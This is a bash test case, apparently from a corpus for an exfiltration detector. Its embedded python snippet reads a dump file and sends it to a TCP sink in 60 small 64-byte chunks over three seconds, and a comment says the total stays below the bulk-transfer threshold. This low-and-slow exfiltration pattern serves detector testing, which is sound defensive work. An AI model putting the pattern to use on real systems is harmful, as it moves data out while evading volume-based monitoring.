#!/bin/bash
# B-slow-drip: 60 times 64 bytes, over three seconds.
# flow: python reads 64 bytes and sends 64 bytes: 3,840 bytes in all, below what counts as bulk.
# tools: python3
# expect: sent counted port low
# set: fast
. "$CORPUS/lib.sh"
mkdump
sink tcp
python3 -c 'import os, socket, sys, time
sink = socket.create_connection((sys.argv[2], int(sys.argv[3])))
dump = os.open(sys.argv[1], os.O_RDONLY)
for _ in range(60):
    sink.sendall(os.read(dump, 64))
    time.sleep(.05)' "$D" "$SINK" "$PORT"
sunk 3000
